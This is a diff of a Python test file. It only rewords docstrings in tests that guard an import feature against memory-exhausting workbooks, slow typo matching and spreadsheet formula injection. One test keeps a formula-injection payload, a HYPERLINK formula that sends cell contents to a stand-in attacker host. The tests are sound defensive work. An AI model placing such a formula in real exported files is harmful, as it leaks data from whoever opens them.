@@ -1,4 +1,4 @@
-"""Files made to end the process that reads them, and rows made to run in a spreadsheet (docs/reference/security.md)."""
+"""Files built to crash the process that reads them, and rows built to execute in a spreadsheet (docs/reference/security.md)."""
 
 from __future__ import annotations
 
@@ -63,7 +63,7 @@ def test_an_honest_workbook_of_this_making_is_read(tmp_path: Path) -> None:
     ],
 )
 def test_I4_cells_in_far_corners_do_not_end_the_process_however_they_are_written(tmp_path: Path, rows: str) -> None:
-    """As a table of all between them each would be hundreds of gigabytes; the reader ends the process over it."""
+    """As a table of everything between them, each would take hundreds of gigabytes and crash the reader's process."""
     path = workbook(tmp_path / "far.xlsx", rows)
     assert path.stat().st_size < 20_000
     with pytest.raises(ImportFileError, match="so far apart"):
@@ -90,7 +90,7 @@ def test_I4_a_cell_of_the_report_is_no_formula_and_is_itself_again(text: str) ->
 
 
 def test_I4_a_report_of_refused_rows_begins_no_formula_and_is_imported_as_it_was(tmp_path: Path) -> None:
-    """It goes to a spreadsheet, and what stands in it was typed by whoever registered."""
+    """It is opened in a spreadsheet, and its contents were typed by anyone who registered."""
     cells = ['=HYPERLINK("https://evil.example/?"&A1)', *CELLS[1:]]
     path = tmp_path / "refused.csv"
     problem = RowProblem("=name", cells[0], "is not known.", ("-1", "x"))
@@ -107,7 +107,7 @@ def test_I4_a_report_of_refused_rows_begins_no_formula_and_is_imported_as_it_was
 
 
 def odd_census(questions: int, length: int) -> Census:
-    """A file whose columns have 300 different answers each, half of them rare enough to look like slips of the others."""
+    """A file whose columns have 300 different answers each, half of them so rare that they look like typos of the others."""
     letters, census = random.Random(1), Census()
     for row in range(300):
         answers = {f"q{n}": "".join(letters.choices("abcdefghij", k=length)) for n in range(questions)}
@@ -118,7 +118,8 @@ def odd_census(questions: int, length: int) -> Census:
 
 @pytest.mark.parametrize(("questions", "length"), [(8, 290), (8, 100), (30, 30)])
 def test_A4_looking_for_slips_has_a_bound_whatever_a_file_holds(questions: int, length: int) -> None:
-    """A file of 900 KB kept the process of pages busy for minutes: each rare answer was compared with each usual one, letter by letter."""
+    """A file of 900 KB used to keep the page process busy for minutes: each rare answer was compared with each frequent one, letter by
+    letter."""
     known = Known(compile_account(1, 1, [HistoryEntry("account", 1, 1, {"code": "A", "name": "A"})]))
     census = odd_census(questions, length)
     with counted("difflib") as lines:
